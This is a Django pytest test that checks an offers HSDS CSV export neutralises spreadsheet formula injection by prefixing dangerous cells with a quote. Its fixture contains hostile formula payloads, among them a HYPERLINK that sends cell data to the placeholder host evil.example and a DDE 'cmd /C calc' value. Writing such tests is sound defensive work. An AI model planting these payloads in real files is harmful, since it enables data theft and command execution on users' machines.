"""The HSDS export is opened in spreadsheets: text from editors never runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from tests.offers.factories import make_offer

pytestmark = pytest.mark.django_db


def test_the_hsds_export_quotes_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
    make_offer(
        external_id="formel",
        title='=HYPERLINK("https://evil.example/?d="&A1,"Eksportstart")',
        summary="+1+cmd|' /C calc'!A0",
        description="@SUM(A1:A9)",
    )

    call_command(
        "export_offers", "--format", "hsds", "--output", str(tmp_path), stderr=io.StringIO()
    )

    with (tmp_path / "services.csv").open(encoding="utf-8") as handle:
        service = next(row for row in csv.DictReader(handle) if row["id"] == "formel")
    cells = [value for value in service.values() if value]
    assert service["name"] == """'=HYPERLINK("https://evil.example/?d="&A1,"Eksportstart")"""
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.startswith("'+1+cmd") or cell.startswith("'@SUM") for cell in cells)
